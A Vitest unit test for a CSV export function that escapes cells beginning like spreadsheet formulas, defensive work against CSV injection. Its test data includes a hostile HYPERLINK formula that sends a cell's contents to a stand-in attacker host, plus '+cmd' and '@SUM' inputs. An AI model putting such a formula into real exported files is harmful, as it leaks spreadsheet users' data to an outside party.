import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

describe('the console CSV writer', () => {
  it('writes text that starts like a formula as text, and numbers as they are', () => {
    const csv = toCsv([
      ['name', 'score'],
      ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', -3],
      ['+cmd', 1],
      ['@SUM(A1)', null],
      ['\tTab', 2],
    ]);
    expect(csv.split('\r\n')).toEqual([
      'name,score',
      `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")",-3`,
      "'+cmd,1",
      "'@SUM(A1),",
      "'\tTab,2",
      '',
    ]);
  });
});
